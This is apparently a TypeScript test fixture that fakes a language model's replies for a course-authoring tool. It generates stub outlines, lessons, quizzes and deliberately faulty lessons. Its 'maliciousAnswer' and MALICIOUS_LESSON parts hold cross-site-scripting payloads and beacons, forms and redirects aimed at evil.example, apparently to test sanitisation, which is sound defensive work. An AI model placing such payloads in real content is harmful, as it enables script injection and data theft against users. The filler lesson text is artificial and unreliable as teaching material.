import { type MarkRequest, markAnswers } from '@coursewright/sample-model';
import { SeededRandom } from '@coursewright/text';
import type { Operation } from '../../../features/authoring/index.ts';
import { readGoodLesson } from '../../../features/authoring/quality/testing/good-lessons.ts';
import { type AskedExercises, type AskedSolutions, exercisesFor, solutionsFor } from './fake-exercises.ts';

interface AskedOutline {
  topic: string;
  requestedSubtopics: string[];
  topicCount: number;
}

interface AskedContracts {
  outline: { topic: number; title: string; lessons: { lesson: number; title: string }[] }[];
  contractsFor: number[];
}

interface AskedLesson {
  course: string;
  subtopic: string;
  presentText?: string;
}

interface AskedQuiz {
  topic: string;
  lessons: { title: string; text: string }[];
  count: number;
  askedBefore: string[];
}

interface AskedPretest {
  pretestFor: { number: number; title: string }[];
}

interface AskedSolution {
  solve: { number: number; question: string; options: string[] }[];
}

interface AskedEdits {
  outline: { id: string; lessons: { id: string }[] }[];
}

const UNUSED = { id: '', topicId: '', into: '', title: '', secondTitle: '', lessons: [], at: -1 };

function editsFor({ outline: [first] }: AskedEdits): string {
  const operations = [
    { ...UNUSED, op: 'add-lesson', topicId: first?.id, title: 'What the learner wished for' },
    { ...UNUSED, op: 'rename', id: first?.id, title: 'A fresh beginning' },
  ];
  return JSON.stringify({ operations, message: 'A lesson more, and another name.' });
}

// In words that no lesson of this model has.
const HINTS = [
  'Scroll back near the top; your clue hides there.',
  'Two notions there sound alike; only one fits.',
  'Ask yourself which notion would survive if you swapped both, then choose.',
];

type Messages = { role: string; content: string }[];

export function findPurpose(messages: Messages): Operation {
  const data = firstUserData(messages);
  if ('topicCount' in data) return 'outline';
  if ('wanted' in data) return 'exercises';
  if ('solveExercises' in data) return 'solve';
  if ('clarify' in data) return 'questions';
  if ('contractsFor' in data) return 'contracts';
  if ('askedBefore' in data) return 'quiz';
  if ('pretestFor' in data) return 'pretest';
  if ('solve' in data) return 'solve';
  if ('wish' in data) return 'edits';
  if ('hintFor' in data) return 'hint';
  if ('markFor' in data) return 'marking';
  if ('subtopic' in data) return 'presentText' in data ? 'revision' : 'lesson';
  return 'answer';
}

export function answerAsModel(messages: Messages): string {
  const data = firstUserData(messages);
  const translated = findTranslation(messages);
  if ('topicCount' in data) {
    const asked = data as unknown as AskedOutline;
    return JSON.stringify(translated ? translatedOutline(translated, asked) : outlineFor(asked));
  }
  if ('clarify' in data) return JSON.stringify({ questions: questionsFor(String(data.clarify)) });
  if ('wanted' in data) return JSON.stringify(exercisesFor(data as unknown as AskedExercises));
  if ('solveExercises' in data) return JSON.stringify(solutionsFor(data as unknown as AskedSolutions));
  if ('wish' in data) return editsFor(data as unknown as AskedEdits);
  if ('hintFor' in data) return JSON.stringify({ hint: HINTS[Number(data.hintLevel) - 1] });
  if ('markFor' in data) return markAnswers(data as unknown as MarkRequest);
  if ('contractsFor' in data) return contractsFor(data as unknown as AskedContracts, translated);
  if ('askedBefore' in data) return JSON.stringify(quizFor(data as unknown as AskedQuiz));
  if ('pretestFor' in data) return JSON.stringify(pretestFor(data as unknown as AskedPretest));
  if ('solve' in data) return JSON.stringify(solutionFor(data as unknown as AskedSolution));
  if ('subtopic' in data) {
    const asked = data as unknown as AskedLesson;
    const lesson = translated
      ? `**${asked.course}** · **${asked.subtopic}**\n\n${LESSONS[translated]}`
      : lessonFor(asked);
    return findRules(messages).includes('steps as a numbered list') ? withSteps(lesson) : lesson;
  }
  const { paragraphs = [] } = data as { paragraphs?: unknown[] };
  const cited = paragraphs.length > 0 ? ' [p1]' : '';
  return `A fair question. The first lesson of this course explains it${cited}; read its **second section** again.`;
}

function firstUserData(messages: Messages): Record<string, unknown> {
  try {
    return JSON.parse(messages.find(({ role }) => role === 'user')?.content ?? '{}') as Record<string, unknown>;
  } catch {
    return {};
  }
}

const findRules = (messages: Messages): string => messages.find(({ role }) => role === 'system')?.content ?? '';

const STEPS = '1. A → B\n2. B → C\n3. C → D';
const withSteps = (lesson: string): string => lesson.replace(/\n(?=### )/, `\n${STEPS}\n\n`);

const CODE = '```python\nfor step in ("look", "compare", "decide"):\n\n    print(step)\n```';

const withCode = (lesson: string): string => lesson.replace(/\n(?=### (?![\s\S]*\n### ))/, `\n${CODE}\n\n`);

const LESSONS = {
  ar: withCode(readGoodLesson('ar-water')),
  de: withCode(readGoodLesson('de-prozente')),
  ja: withCode(readGoodLesson('ja-bread')),
};
type Translated = keyof typeof LESSONS;

const ASPECTS = {
  ar: 'أصول،مبادئ،أدوات،تطبيقات،أخطاء،مجالات،مستقبل'.split('،'),
  de: 'Ursprung Grundlagen Werkzeuge Praxis Irrtümer Anwendungen Ausblick'.split(' '),
  ja: '起源 原理 道具 実践 失敗 応用 展望'.split(' '),
};
const PARTS = {
  ar: 'خلفية،أمثلة،تمارين'.split('،'),
  de: ['Woher es kommt', 'Wie man es übt', 'Was daraus folgt'],
  ja: '背景 実例 練習'.split(' '),
};

/** Like a model: the language that is asked for, else that of the topic where its script leaves no other. */
function findTranslation(messages: Messages): Translated | undefined {
  const rules = findRules(messages);
  const { topic, course } = firstUserData(messages);
  const subject = String(course ?? topic ?? '');
  if (rules.includes('Write in German.')) return 'de';
  if (/\p{Script=Arabic}{3}/u.test(subject)) return 'ar';
  return /\p{Script=Han}{2}/u.test(subject) ? 'ja' : undefined;
}

function translatedOutline(language: Translated, { topic, requestedSubtopics, topicCount }: AskedOutline) {
  const topics = ASPECTS[language].slice(0, topicCount).map((aspect) => ({
    title: `${aspect}: ${topic}`,
    subtopics: PARTS[language].map((part) => ({ title: `${part}: ${aspect}` })),
  }));
  for (const [index, title] of requestedSubtopics.entries()) topics[index % topicCount]?.subtopics.push({ title });
  return { topics };
}

function outlineFor({ topic, requestedSubtopics, topicCount }: AskedOutline) {
  const aspects = ['Origins', 'Principles', 'Tools', 'Practice', 'Pitfalls', 'Applications', 'Outlook'];
  const topics = aspects.slice(0, topicCount).map((aspect) => ({
    title: `${aspect} of ${topic}`,
    subtopics: ['Background', 'Examples', 'Exercises'].map((part) => ({ title: `${part}: ${aspect.toLowerCase()}` })),
  }));
  for (const [index, title] of requestedSubtopics.entries()) topics[index % topicCount]?.subtopics.push({ title });
  return { topics };
}

const PROMISES = {
  en: (title: string) => `You can explain “${title}” and tell when it applies.`,
  ar: (title: string) => `تستطيع أن تشرح «${title}» وأن تقول متى ينطبق.`,
  de: (title: string) => `Du kannst „${title}“ erklären und sagen, wann es gilt.`,
  ja: (title: string) => `「${title}」を説明し、いつ当てはまるかを言えるようになります。`,
};
const questionsFor = (topic: string) =>
  topic === 'Mercury'
    ? [{ question: 'Which Mercury do you mean?', answers: ['The planet', 'The metal', 'The Roman god'] }]
    : [];

const KINDS = ['concept', 'procedure', 'case', 'practice'];

function contractsFor({ outline, contractsFor }: AskedContracts, language: Translated | 'en' = 'en'): string {
  const promise = PROMISES[language];
  const line = ({ lesson, title }: { lesson: number; title: string }) => ({
    lesson,
    promise: promise(title),
    objectives: [promise(title)],
    terms: [`${title.split(/[\s:：]/)[0]} ${lesson}`],
    needs: lesson > 1 ? [lesson - 1] : [],
    kind: KINDS[lesson % KINDS.length],
    minutes: 6,
    mediaQuery: title.slice(0, 60),
  });
  const lines = outline.flatMap(({ topic, title, lessons }) => [
    { topic, outcome: promise(title) },
    ...lessons.filter(({ lesson }) => contractsFor.includes(lesson)).map(line),
  ]);
  return lines.map((one) => JSON.stringify(one)).join('\n');
}

const FILLERS = ['colour', 'number', 'nothing'];

/** Options are words of the lesson, which the question does not have. */
function quizFor({ lessons, count, askedBefore }: AskedQuiz) {
  const aspects = ['purpose', 'order', 'cost', 'history', 'danger', 'beauty', 'measure', 'limit', 'origin', 'name'];
  const questions = Array.from({ length: count }, (_, index) => {
    const number = askedBefore.length + index;
    const at = number % lessons.length;
    const { title = '', text = '' } = lessons[at] ?? {};
    const aspect = `${aspects[number % aspects.length]}${number < aspects.length ? '' : ` number${number}`}`;
    const question = `What is the ${aspect} in “${title}”?`;
    const known = [...new Set((text.match(/\p{L}{4,}/gu) ?? []).map((word) => word.toLowerCase()))];
    const words = known.filter((word) => !question.toLowerCase().includes(word));
    const [right = '', ...wrong] = new SeededRandom(`${title} ${number}`).take([...words], Math.min(4, words.length));
    const options = [right, ...wrong, ...FILLERS].slice(0, 4);
    return {
      lesson: at + 1,
      objective: 0,
      question,
      options,
      correct: 0,
      explanation: `The lesson names “${right}” as its ${aspect}.`,
      reasons: options.map((option, place) =>
        place === 0 ? '' : `The lesson says “${option}” of another thing than this one.`,
      ),
    };
  });
  return { questions };
}

const METHODS = ['weighing twice', 'waiting a day', 'stirring slowly', 'cooling early', 'mixing dry'];
const AIMS = ['evenness', 'strength', 'clarity'];

function pretestFor({ pretestFor: lessons }: AskedPretest) {
  const questions = lessons.flatMap(({ number, title }) =>
    AIMS.map((aim, index) => ({
      lesson: number,
      objective: 0,
      question: `How do experts reach ${aim} when they work on “${title}”?`,
      options: METHODS,
      correct: (number + index) % METHODS.length,
      explanation: `They do it by ${METHODS[(number + index) % METHODS.length]}, which leads to it safely.`,
    })),
  );
  return { questions };
}

/** What this model takes for right, without a key: it finds the number of a lesson by the order of the titles. */
function solutionFor({ solve }: AskedSolution) {
  const titles = [...new Set(solve.map(({ question }) => /“(.*)”/.exec(question)?.[1]))];
  const answers = solve.map(({ number, question, options }) => {
    const place = titles.indexOf(/“(.*)”/.exec(question)?.[1]) + 1 + AIMS.findIndex((aim) => question.includes(aim));
    return { question: number, option: options.indexOf(METHODS[place % METHODS.length] ?? '') };
  });
  return { answers };
}

const NOUNS = 'idea table measure habit pattern limit reason sketch witness engine margin ladder harvest signal'.split(
  ' ',
);
const VERBS = 'changes carries hides explains slows feeds repeats sharpens weighs follows meets answers'.split(' ');
const PLACES = 'in spring|at noon|on paper|in the workshop|by hand|after a pause|near the coast|in small steps'.split(
  '|',
);

/** Sentences that no other sub-topic of a course has. */
function sentencesFor(subtopic: string, part: string, count: number): string {
  const random = new SeededRandom(`${subtopic} ${part}`);
  const [noun, verb, place] = [NOUNS, VERBS, PLACES].map((words) => () => random.take(words, 1)[0] ?? '');
  const sentence = () =>
    `The ${noun?.()} ${verb?.()} a ${noun?.()} ${place?.()}, and one ${noun?.()} ${verb?.()} the ${noun?.()} ${place?.()}.`;
  return Array.from({ length: count }, sentence).join(' ');
}

function lessonFor({ course, subtopic, presentText }: AskedLesson): string {
  const look = presentText === undefined ? '' : ' This is another look at the same subject, in other words.';
  const write = (part: string, count: number) => sentencesFor(`${subtopic} ${presentText?.length ?? ''}`, part, count);
  return [
    `People who study ${course} meet ${subtopic} early, because much of what follows rests on it.${look} ${write('opening', 2)}`,
    '### The idea',
    `${write('idea', 4)} Keep one question in mind: **what would change without it?**`,
    `- ${write('list', 1)}\n- ${write('parts', 1)}\n- say how they work together`,
    '### An example',
    '| Step | What happens |\n| ---: | --- |\n| 1 | You look |\n| 2 | You compare |\n| 3 | You decide |',
    CODE,
    'With $n$ steps there are this many pairs: $$\\binom{n}{2} = \\frac{n(n-1)}{2}$$',
    `${write('example', 4)} Write your own version of the table before you go on.`,
    '### Key points',
    `- ${write('first', 1)}\n- examples test it\n- exceptions refine it`,
  ].join('\n\n');
}

const LESSON_FAULTS = {
  foreign: () => readGoodLesson('de-prozente'),
  'ai-refusal': () => 'As an AI language model, I cannot write about this.',
  'no-key-points': (lesson: string) => lesson.slice(0, lesson.indexOf('### Key points')),
  'wrong-sum': (lesson: string) =>
    lesson.replace('### An example', '### An example\n\nTwo steps of 17 make 17 × 2 = 36.'),
};
type LessonFault = keyof typeof LESSON_FAULTS;

export const isLessonFault = (name: string): name is LessonFault => Object.hasOwn(LESSON_FAULTS, name);

export const faultyLesson = (name: LessonFault, messages: Messages): string =>
  LESSON_FAULTS[name](answerAsModel(messages));

const SENTENCE =
  'People who study this topic meet the idea early, because much of what follows rests on it, and they return to it whenever a result surprises them. ';

const MALICIOUS_LESSON = [
  SENTENCE.repeat(3),
  '<script>document.title = "owned"</script>',
  '### The idea <img src=x onerror="document.title=\'owned\'">',
  `${SENTENCE.repeat(3)} <b onclick="document.title='owned'">Click</b> <a href="javascript:document.title='owned'">here</a> or [there](data:text/html,<script>alert(1)</script>).`,
  '![progress](https://evil.example/collect?course=secret)',
  '<iframe srcdoc="<script>top.document.title=\'owned\'</script>"></iframe><svg onload="document.title=\'owned\'"></svg>',
  '<style>body { background: url(https://evil.example/seen) }</style><p style="position:fixed;inset:0">covered</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input type="password" name="password"></form>',
  `$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$ ${SENTENCE.repeat(2)}`,
  '```html\n<script>alert("shown as code")</script>\n```',
  '```mermaid\nflowchart LR\n A["<img src=x onerror=alert(1)>drawn"] --> B["<a href=javascript:alert(2)>b</a>"]\n click A "javascript:alert(3)"\n style B fill:red\n```',
  '### Key points',
  `- ${SENTENCE}\n- [a source](http://evil.example)\n- <meta http-equiv="refresh" content="0;url=https://evil.example">the end`,
].join('\n\n');

const TITLE = '<img src=x onerror="document.title=\'owned\'">';
const titles = ['Origins', 'Principles', 'Tools', 'Practice', 'Pitfalls', 'Applications', 'Outlook'];

export function maliciousAnswer(messages: Messages): string {
  const purpose = findPurpose(messages);
  if (purpose === 'outline') {
    const subtopics = ['Background', 'Examples', 'Exercises'].map((part) => ({ title: `${part} ${TITLE}` }));
    return JSON.stringify({
      topics: titles.slice(0, 4).map((title) => ({ title: `${title} <script>alert(1)</script>`, subtopics })),
    });
  }
  if (purpose === 'contracts') {
    const lines = Array.from({ length: 40 }, (_, index) => ({
      lesson: index + 1,
      promise: `Owned ${TITLE}`,
      objectives: [`<script>alert(1)</script>`],
      terms: [`${TITLE} ${index}`],
      needs: [],
      kind: 'concept',
      minutes: 6,
      mediaQuery: 'javascript:alert(1)',
    }));
    return lines.map((line) => JSON.stringify(line)).join('\n');
  }
  if (purpose !== 'quiz') return MALICIOUS_LESSON;
  const { questions } = quizFor(firstUserData(messages) as unknown as AskedQuiz);
  const attack = (text: string) => `${text} <script>`;
  return JSON.stringify({
    questions: questions.map(({ question, options, explanation, reasons, ...item }) => ({
      ...item,
      question: attack(question),
      options: options.map(attack),
      explanation: `${explanation} ${TITLE}`,
      reasons: reasons.map((reason) => reason && `${reason} ${TITLE}`),
    })),
  });
}
